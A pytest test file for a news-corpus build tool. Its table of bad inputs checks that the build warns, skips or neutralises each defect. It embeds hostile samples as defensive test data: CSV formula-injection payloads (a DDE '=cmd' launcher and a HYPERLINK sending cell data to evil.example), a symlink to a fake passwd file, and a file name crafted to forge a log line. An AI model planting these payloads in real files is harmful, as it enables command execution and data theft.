"""The bad-input battery: each case is a corpus folder with two good articles beside the bad input.

For every case the build must name what is wrong (a warning with the file and the reason), build the
rest, never read outside the corpus folder, and leave the folder byte for byte as it was. A new defect
of this kind is one more row of :data:`CASES`. Cases that need the NLP stage or the notebooks live in
the tests after the table.
"""

from __future__ import annotations

import codecs
import csv
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from helpers.build import EXIT_FAILED, EXIT_OK, EXIT_SKIPPED, build_corpus
from helpers.storage import read_table

GOOD1 = ("Rebels seize airport after three days of fighting\n\n"
         "Rebels seized the northern airport of Kandor on Friday after three days of fighting, the provincial "
         "governor said. Forty soldiers surrendered, he added.\n")
GOOD2 = ("Floods close the coastal road\n\n"
         "Heavy rain closed the coastal road near Marsa on Sunday, and the army evacuated two villages, "
         "officials said.\n")
HTML_ENTITIES = ("<!DOCTYPE html><html><head><title>Escaped markup</title></head><body><article>"
                 "<p>The tutorial shows how a page writes the tag &amp;lt;script&amp;gt; as text, so that a "
                 "browser prints it instead of running it, the author said on Monday.</p>"
                 "<p>Readers asked for more examples of escaped markup in news pages and in blogs.</p>"
                 "</article></body></html>")
TXT_WITH_TAGS = ("A developer explains injected markup\n\n"
                 "Attackers hide a <script> element or an <img> tag with an onerror handler in comments, the "
                 "security researcher said. Sites that print comments without escaping them run the code, she "
                 "warned, and readers never see it.\n")


@dataclass
class Case:
    files: dict[str, bytes | str]
    manifest: list[dict[str, str]] | str | None = None  # rows, or the manifest's raw text
    problems: tuple[str, ...] = ()  # regexes: each must match one warning line
    built: set[str] | None = None  # article ids expected besides good1 and good2
    exit_code: int = EXIT_SKIPPED
    setup: Callable[[Path, Path], None] | None = None  # (corpus folder, a folder outside it)
    check: Callable[[dict[str, pd.DataFrame], Path], None] | None = None
    nlp: bool = False
    good: dict[str, str] = field(default_factory=lambda: {"good1.txt": GOOD1, "good2.txt": GOOD2})


def _link_outside(raw: Path, outside: Path) -> None:
    secret = outside / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n" * 20, encoding="utf-8")
    os.symlink(secret, raw / "passwd.txt")


def _link_folder_outside(raw: Path, outside: Path) -> None:
    (outside / "more").mkdir()
    (outside / "more" / "x.txt").write_text(GOOD1, encoding="utf-8")
    os.symlink(outside / "more", raw / "more")


def _link_inside(raw: Path, outside: Path) -> None:
    os.symlink(raw / "good1.txt", raw / "alias.txt")


def _no_secret(tables, out):
    for name in ("articles", "paragraphs", "removed"):
        assert not tables[name].astype(str).apply(lambda c: c.str.contains("root:x:0")).any().any()


def _unique_ids(tables, out):
    assert sorted(tables["articles"]["article_id"]) == ["good1.html", "good1.txt", "good2"]


def _renamed_columns(tables, out):
    articles = tables["articles"]
    assert articles.columns.is_unique
    assert set(articles["manifest_text"]) == {"my note"} and set(articles["manifest_language"]) == {"fr"}
    assert set(articles["language"]) == {"en"}


def _encoding_column(tables, out):
    assert tables["articles"].columns.is_unique and list(tables["articles"]["encoding"]) == ["utf-8", "utf-8"]


def _csv_neutralised(tables, out):
    csv_articles = pd.read_csv(out / "articles.csv", encoding="utf-8-sig", keep_default_na=False)
    outlets = set(csv_articles["outlet"])
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in outlets
    assert all(not str(v).startswith(("=", "+", "-", "@")) for column in csv_articles for v in csv_articles[column])
    formula = tables["articles"].set_index("article_id").loc["formula", "text"]  # Parquet keeps the true text
    assert formula.startswith("=cmd|' /C calc'!A0")


def _utf16_chinese(tables, out):
    text = tables["articles"].set_index("article_id").loc["chinese", "text"]
    assert "叙利亚" in text and tables["articles"].set_index("article_id").loc["chinese", "encoding"] == "utf-16-le"


def _txt_kept_as_text(tables, out):
    article = tables["articles"].set_index("article_id").loc["tags"]
    assert article["format"] == "text" and "<script> element" in article["text"]


def _entities_once(tables, out):
    text = tables["articles"].set_index("article_id").loc["escaped", "text"]
    assert "&lt;script&gt;" in text and "<script>" not in text


def _precision_fixed(tables, out):
    articles = tables["articles"].set_index("article_id")
    assert articles.loc["weekly", "date_precision"] == "day"
    assert articles.loc["finer", "date_precision"] == "month"


CASES: dict[str, Case] = {
    # --- security and data loss
    "link to a file outside the corpus": Case({}, setup=_link_outside, check=_no_secret,
                                              problems=(r"^passwd\.txt: a link to a file outside the corpus",)),
    "link to a folder outside the corpus": Case({}, setup=_link_folder_outside,
                                                problems=(r"^more: a link to a folder: not followed",)),
    "link to a file inside the corpus": Case({}, setup=_link_inside, built={"alias"}, exit_code=EXIT_OK),
    "manifest with the README's encoding column": Case(
        {}, manifest="file,outlet,encoding\ngood1.txt,A,utf-8\ngood2.txt,B,utf-8\n", exit_code=EXIT_OK,
        check=_encoding_column),
    "manifest columns the articles table uses": Case(
        {}, manifest="file,outlet,text,language,n_words,sha256,article_id\ngood1.txt,A,my note,fr,3,x,y\n"
                     "good2.txt,B,my note,fr,3,x,y\n",
        problems=(r"^manifest\.csv: column 'text' is a name the articles table uses itself; kept as 'manifest_text'",),
        exit_code=EXIT_OK, check=_renamed_columns),
    "a file over the size limit": Case({"huge.txt": b"word " * 4_200_000},
                                       problems=(r"^huge\.txt: 21\.0 MB: larger than 20 MB, so not one article",)),
    "two files with the same name": Case({"good1.html": "<html><body><article><p>" + GOOD2 + "</p></article>"
                                          "</body></html>"},
                                         good={"good1.txt": GOOD1, "good2.txt": GOOD2}, exit_code=EXIT_OK,
                                         problems=(r"^good1\.html: another file has the same name",),
                                         check=_unique_ids),
    "spreadsheet formulas": Case(
        {"formula.txt": "=cmd|' /C calc'!A0 is what the attacker typed\n\n=cmd|' /C calc'!A0 opens a program "
                        "on the reader's computer, the researcher said on Monday.\n"},
        manifest=[{"file": "good1.txt", "outlet": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
                  {"file": "good2.txt", "outlet": "+B"}, {"file": "formula.txt", "outlet": "@C"}],
        built={"formula"}, exit_code=EXIT_OK, check=_csv_neutralised),
    # --- input handling
    "UTF-16 without a BOM, Chinese": Case(
        {"chinese.txt": ("叙利亚军队夺取机场\n\n叙利亚军队周五夺取了北部机场，省长说。\n").encode("utf-16-le")},
        built={"chinese"}, exit_code=EXIT_OK, check=_utf16_chinese),
    "plain text that mentions tags": Case({"tags.txt": TXT_WITH_TAGS}, built={"tags"}, exit_code=EXIT_OK,
                                          check=_txt_kept_as_text),
    "HTML entities decoded once": Case({"escaped.html": HTML_ENTITIES}, built={"escaped"}, exit_code=EXIT_OK,
                                       check=_entities_once),
    "date precision unknown or too fine": Case(
        {"weekly.txt": GOOD1, "finer.txt": GOOD2},
        manifest=[{"file": "good1.txt"}, {"file": "good2.txt"},
                  {"file": "weekly.txt", "published": "2017-06-16", "date_precision": "weekly"},
                  {"file": "finer.txt", "published": "2017-06", "date_precision": "day"}],
        problems=(r"^weekly\.txt: unknown date_precision 'weekly'", r"^finer\.txt: date_precision 'day' is finer"),
        built={"weekly", "finer"}, exit_code=EXIT_OK, check=_precision_fixed),
    "implausible dates": Case(
        {"old.txt": GOOD1, "future.txt": GOOD2},
        manifest=[{"file": "good1.txt"}, {"file": "good2.txt"}, {"file": "old.txt", "published": "0001-01-01"},
                  {"file": "future.txt", "published": "3000-01-01"}],
        problems=(r"^old\.txt: date 0001-01-01 is before 1800", r"^future\.txt: date 3000-01-01 is in the future"),
        built={"old", "future"}, exit_code=EXIT_OK),
    "a semicolon-separated cp1252 manifest": Case(
        {}, manifest="file;outlet;headline\ngood1.txt;Le Café;Tête\ngood2.txt;B;x\n".encode("cp1252"),
        exit_code=EXIT_OK,
        check=lambda t, o: set(t["articles"]["outlet"]) == {"Le Café", "B"} or pytest.fail(str(t["articles"]))),
    # --- what was handled before, kept handled
    "an empty file": Case({"empty.txt": b""}, problems=(r"^empty\.txt: empty file \(skipped\)",)),
    "whitespace only": Case({"blank.txt": b" \n\t\n"}, problems=(r"^blank\.txt: file holds only whitespace",)),
    "a PDF": Case({"doc.txt": b"%PDF-1.7\n" + bytes(range(256))}, problems=(r"^doc\.txt: binary file \(a PDF",)),
    "a PNG": Case({"pic.html": b"\x89PNG\r\n\x1a\n" + bytes(300)}, problems=(r"^pic\.html: binary file \(a PNG",)),
    "NUL bytes": Case({"nul.txt": b"abc\x00\x00\x00def\x00\x00ghi" * 10},
                      problems=(r"^nul\.txt: binary file",)),
    "undecodable bytes": Case({"bad.txt": bytes([0x81, 0x8d, 0x8f, 0x90, 0x9d]) * 50},
                              problems=(r"^bad\.txt: undecodable",)),
    "HTML with no article": Case({"nav.html": "<html><body><nav><a href='/'>Home</a></nav></body></html>"},
                                 problems=(r"^nav\.html: HTML with no article text",)),
    "manifest lists a missing file": Case({}, manifest=[{"file": "good1.txt"}, {"file": "good2.txt"},
                                                        {"file": "missing.txt"}],
                                          problems=(r"^missing\.txt: listed in manifest\.csv but no such file",)),
    "a malformed date": Case({}, manifest=[{"file": "good1.txt", "published": "12/1/16"}, {"file": "good2.txt"}],
                             problems=(r"^good1\.txt: malformed date '12/1/16'",), exit_code=EXIT_OK),
    "a manifest without a file column": Case({}, manifest="name,outlet\ngood1.txt,A\n",
                                             problems=(r"^manifest\.csv: has no 'file' column",), exit_code=EXIT_OK),
    "an unknown encoding in the manifest": Case(
        {"third.txt": GOOD1}, manifest=[{"file": "good1.txt"}, {"file": "good2.txt"},
                                       {"file": "third.txt", "encoding": "klingon"}],
        problems=(r"^third\.txt: unknown encoding 'klingon' given in the manifest \(skipped\)",)),
    "hidden files, READMEs and nested folders": Case(
        {".DS_Store": b"\x00\x01", "README.md": "about", "2017/june/nested.txt": GOOD1}, built={"2017/june/nested"},
        exit_code=EXIT_OK),
    "a latin-1 file and a UTF-8 file with a BOM": Case(
        {"latin.txt": "Tête de liste\n\nLe café ferme, a dit le maire.\n".encode("latin-1"),
         "bom.txt": codecs.BOM_UTF8 + GOOD2.encode("utf-8")}, built={"latin", "bom"}, exit_code=EXIT_OK),
    "a file name with a line break": Case(
        {"bad\nWARNING good1.txt: all fine.txt": b""}, problems=(r"^bad\\nWARNING good1\.txt: all fine\.txt: empty",)),
}


def _snapshot(folder: Path) -> dict[str, object]:
    found = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(root) / name
            rel = path.relative_to(folder).as_posix()
            found[rel] = ("link", os.readlink(path)) if path.is_symlink() else (
                path.read_bytes() if path.is_file() else None)
    return found


def _write_manifest(raw: Path, manifest) -> None:
    if manifest is None:
        return
    if isinstance(manifest, bytes):
        (raw / "manifest.csv").write_bytes(manifest)
    elif isinstance(manifest, str):
        (raw / "manifest.csv").write_text(manifest, encoding="utf-8")
    else:
        columns = list(dict.fromkeys(key for row in manifest for key in row))
        with open(raw / "manifest.csv", "w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=columns, restval="")
            writer.writeheader()
            writer.writerows(manifest)


@pytest.mark.parametrize("name", list(CASES))
def test_battery(name, tmp_path):
    case = CASES[name]
    raw, outside = tmp_path / "raw", tmp_path / "outside"
    raw.mkdir()
    outside.mkdir()
    for file, content in {**case.good, **case.files}.items():
        path = raw / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    _write_manifest(raw, case.manifest)
    if case.setup:
        case.setup(raw, outside)
    before = _snapshot(raw)

    report = build_corpus(raw, tmp_path / "out", progress=False, nlp=case.nlp)

    assert _snapshot(raw) == before, "the corpus folder was changed"
    lines = report.summary().splitlines()
    warnings = [line.removeprefix(f"WARNING {raw}/") for line in lines if line.startswith("WARNING ")]
    for pattern in case.problems:
        assert any(re.search(pattern, w) for w in warnings), f"no warning matches {pattern!r}: {warnings}"
    assert not [line for line in lines if line.startswith("WARNING good")], "a forged warning line"
    tables = {n: read_table(tmp_path / "out", n) for n in ("articles", "paragraphs", "removed", "problems")}
    ids = set(tables["articles"]["article_id"])
    expected = {Path(f).with_suffix("").as_posix() for f in case.good} | (case.built or set())
    if case.check is not _unique_ids:
        assert ids == expected
    assert report.exit_code == case.exit_code
    if case.check:
        case.check(tables, tmp_path / "out")


def test_the_battery_covers_every_kind_of_bad_input():
    assert len(CASES) >= 28
    assert EXIT_FAILED == 2  # nothing built: see test_build.py::test_nothing_built_is_a_failure
